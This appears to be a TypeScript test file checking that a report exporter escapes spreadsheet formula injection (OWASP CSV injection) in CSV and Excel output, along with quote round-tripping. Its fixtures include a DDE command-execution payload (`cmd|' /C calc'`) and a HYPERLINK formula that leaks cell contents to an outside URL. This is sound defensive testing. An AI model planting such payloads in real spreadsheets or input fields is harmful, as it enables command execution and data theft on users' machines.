import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csv, dataSheet, workbook, type Column } from '../scripts/report/format.js';
import {
  spreadsheetText,
  textOfSpreadsheetCell,
  workbookText,
} from '../shared/spreadsheet-cell.js';

/** What editors may have written into a title or a name, each of which a spreadsheet would run. */
const formulas = [
  '=HYPERLINK("https://example.org/?d="&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('spreadsheet output never holds a formula (OWASP CSV injection)', () => {
  it.each(formulas)('writes %j as text', (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });

  it('leaves other text and numbers alone', () => {
    for (const text of ['天津市社会工作服务中心', 'a=b', ' =1', '2024-01', ''])
      expect(spreadsheetText(text)).toBe(text);
  });

  type Row = { region: string; title: string; value: number };
  const rows: Row[] = formulas.map((title, i) => ({ region: 'TJ', title, value: -i - 0.5 }));
  const columns: Column<Row>[] = (['region', 'title', 'value'] as const).map((key) => ({
    key,
    title: key,
  }));

  it('in the report as CSV: every such cell starts with a quote, negative numbers stay numbers', () => {
    const [header, ...lines] = parse(csv<Row>(columns, rows), {
      bom: true,
      relax_column_count: false,
    }) as string[][];
    expect(header).toEqual(['region', 'title', 'value']);
    expect(lines.map((line) => line[1])).toEqual(formulas.map((text) => `'${text}`));
    expect(lines.map((line) => line[2])).toEqual(rows.map((row) => String(row.value)));
  });

  it('in the report as a workbook: every such cell is a text cell, holding the text as it is', async () => {
    const file = await workbook([dataSheet('报告', columns, rows)]);
    const [sheet] = await readXlsxFile(file);
    expect(sheet!.data.slice(1).map((line) => line[2])).toEqual(rows.map((row) => row.value));
    // A text cell, which no spreadsheet runs, holding the text itself (an XML reader, as every
    // spreadsheet is, reads a carriage return as a line feed).
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(file as unknown as ArrayBuffer);
    const titles = formulas.map((_, i) => read.worksheets[0]!.getCell(i + 2, 2));
    expect(titles.map((cell) => cell.type)).toEqual(formulas.map(() => ExcelJS.ValueType.String));
    expect(titles.map((cell) => cell.value)).toEqual(
      formulas.map((text) => text.replace('\r', '\n')),
    );
  });
});

/**
 * The mark through what spreadsheets do to it: a CSV export's `''Three Areas'` saved as a workbook
 * keeps both quotes, and a workbook's `'Three Areas'` saved as CSV comes out as it is. Either file
 * read back gives the name, each reader dropping a quote only before what it marks.
 */
describe('a quote that marks text, across CSV and workbook', () => {
  const names = [
    "'Three Areas' plan (Ningxia, cumulative since 2013)",
    "''double",
    "'=quoted formula",
    '=1+1',
    '-minus',
    "it's",
    '普通名称',
  ];

  it('keeps a leading quote that marks nothing, and drops the one before = or a second quote', () => {
    expect(textOfSpreadsheetCell("'Three Areas' plan")).toBe("'Three Areas' plan");
    expect(textOfSpreadsheetCell("''Three Areas' plan")).toBe("'Three Areas' plan");
    expect(textOfSpreadsheetCell("'=1+1")).toBe('=1+1');
    expect(textOfSpreadsheetCell("'0012")).toBe("'0012");
  });

  it.each(names)('round-trips %j through CSV, workbook and each saved as the other', (name) => {
    const csv = spreadsheetText(name);
    const workbook = workbookText(name);
    // CSV read back; CSV saved as a workbook (the text kept); workbook read back; workbook saved as
    // CSV (the text kept).
    for (const cell of [csv, workbook]) expect(textOfSpreadsheetCell(cell)).toBe(name);
  });
});
